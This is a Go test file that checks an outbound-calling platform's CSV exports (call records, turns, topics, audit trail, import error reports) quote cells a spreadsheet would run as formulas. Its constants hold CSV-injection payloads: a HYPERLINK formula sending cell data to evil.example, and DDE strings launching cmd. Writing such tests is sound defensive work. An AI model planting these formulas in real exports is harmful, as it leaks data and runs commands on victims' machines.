package api_test

import (
	"bytes"
	"encoding/csv"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/outcall/outcall/campaigns"
	"github.com/outcall/outcall/telephony"
)

// Formulas a callee, a contact list or a tenant's user could slip into an
// export, each one that a spreadsheet would run.
const (
	hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"details")`
	dde       = `@SUM(1+1)*cmd|' /C calc'!A0`
	plusCmd   = `+cmd|' /C notepad'!A0`
)

// csvCells reads a CSV answer (its byte order mark dropped) into rows of
// cells keyed by the header row's names.
func csvCells(t *testing.T, what string, r response) []map[string]string {
	t.Helper()
	if r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("%s: %d %s", what, r.Status, r.Raw)
	}
	rd := csv.NewReader(bytes.NewReader(bytes.TrimPrefix([]byte(r.Raw), []byte("\ufeff"))))
	rd.FieldsPerRecord = -1
	rows, err := rd.ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("%s: %v\n%s", what, err, r.Raw)
	}
	var out []map[string]string
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, name := range rows[0] {
			if i < len(row) {
				m[name] = row[i]
			}
		}
		out = append(out, m)
	}
	return out
}

var plainNegative = regexp.MustCompile(`^-[0-9]+(\.[0-9]+)?$`)

// noCellRuns fails for any cell of rows that a spreadsheet would take for
// a formula, other than a plain negative number.
func noCellRuns(t *testing.T, what string, rows []map[string]string) {
	t.Helper()
	for _, row := range rows {
		for name, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNegative.MatchString(cell) {
				t.Errorf("%s: the %s cell %q would run in a spreadsheet", what, name, cell)
			}
		}
	}
}

// TestEveryCSVExportNeutralisesFormulas exports, through the API, every
// CSV that can carry text someone else chose: the call records and turns
// (a callee's words, tags), the topics (the words no intent matched), a number's audit trail (a do-not-call reason,
// a consent's source) and an import's error report (a file's headers). A
// cell starting with =, +, - or @ gets a leading quote, so a spreadsheet
// shows it and does not run it; a number in E.164 is quoted too
// ('+8613812341234 still reads as the number), and a plain negative number
// is left a number.
func TestEveryCSVExportNeutralisesFormulas(t *testing.T) {
	h := newHarness(t)
	a := h.signup("Shop", "ops@shop.example")
	sentiment := float32(-0.5)
	seeded := h.seedCalls(a, tomorrowNoon(), []string{"13812341234"}, func(_ string, at time.Time) campaigns.Ending {
		return campaigns.Ending{Outcome: telephony.OutcomeAnswered, AnsweredAt: at, EndedAt: at.Add(20 * time.Second), Tags: []string{plusCmd},
			Turns: []campaigns.Turn{{State: "greeting", Said: dde, Heard: hyperlink, Intent: "no_match", Sentiment: &sentiment, StartedAt: at, EndedAt: at.Add(5 * time.Second)}}}
	})
	query := "?campaign_id=" + seeded.CampaignID

	calls := csvCells(t, "calls.csv", h.do(nil, "GET", "/v1/reports/calls.csv"+query, nil, bearer(a.Key)...))
	if len(calls) != 1 || calls[0]["phone"] != "'+8613812341234" || calls[0]["tags"] != "'"+plusCmd {
		t.Errorf("calls.csv: %v; want the phone as '+8613812341234 and the tags quoted", calls)
	}
	noCellRuns(t, "calls.csv", calls)

	turns := csvCells(t, "turns.csv", h.do(nil, "GET", "/v1/reports/turns.csv"+query, nil, bearer(a.Key)...))
	if len(turns) != 1 || turns[0]["heard"] != "'"+hyperlink || turns[0]["said"] != "'"+dde || turns[0]["sentiment"] != "-0.5" {
		t.Errorf("turns.csv: %v; want heard and said quoted, the sentiment left -0.5", turns)
	}
	noCellRuns(t, "turns.csv", turns)

	topics := csvCells(t, "topics.csv", h.do(nil, "GET", "/v1/reports/topics.csv"+query, nil, bearer(a.Key)...))
	if last := topics[len(topics)-1]; last["kind"] != "no_match" || last["key"] != "'"+hyperlink {
		t.Errorf("topics.csv: %v; want the callee's words quoted", topics)
	}
	noCellRuns(t, "topics.csv", topics)

	// The audit trail is written by contacts; the API makes it safe on the way out.
	for _, r := range []response{
		h.do(nil, "POST", "/v1/dnc", map[string]any{"phones": []string{"13812341234"}, "reason": dde}, bearer(a.Key)...),
		h.do(nil, "POST", "/v1/consents", map[string]any{"phone": "13812341234", "source": hyperlink}, bearer(a.Key)...),
	} {
		if r.Status >= 300 {
			t.Fatalf("fixture: %d %s", r.Status, r.Raw)
		}
	}
	audit := csvCells(t, "audit CSV", h.do(nil, "GET", "/v1/audit/"+url.PathEscape("+8613812341234")+"?format=csv", nil, bearer(a.Key)...))
	reasons, sources := map[string]bool{}, map[string]bool{}
	for _, row := range audit {
		if row["phone"] != "'+8613812341234" {
			t.Errorf("audit CSV: phone %q, want '+8613812341234", row["phone"])
		}
		reasons[row["reason"]], sources[row["source"]] = true, true
	}
	if !reasons["'"+dde] || !sources["'"+hyperlink] {
		t.Errorf("audit CSV: reasons %v, sources %v; want the formulas quoted", reasons, sources)
	}
	noCellRuns(t, "audit CSV", audit)

	// An import's error report names the file's own headers, and was
	// stored before anyone asked for it.
	list := h.do(nil, "POST", "/v1/lists", map[string]any{"name": "upload"}, bearer(a.Key)...)
	im := h.do(nil, "POST", "/v1/lists/"+list.str("id")+"/imports?time_zone_column="+url.QueryEscape("@zone"), "手机号,@zone\n13812345678,Not/AZone\n", bearer(a.Key)...)
	if im.Status != 202 {
		t.Fatalf("upload: %d %s", im.Status, im.Raw)
	}
	h.runImport(a, im.str("id"))
	report := csvCells(t, "import error report", h.do(nil, "GET", "/v1/imports/"+im.str("id")+"/errors", nil, bearer(a.Key)...))
	if len(report) != 1 || report[0]["column"] != "'@zone" {
		t.Errorf("import error report: %v; want the column quoted as '@zone", report)
	}
	noCellRuns(t, "import error report", report)
}
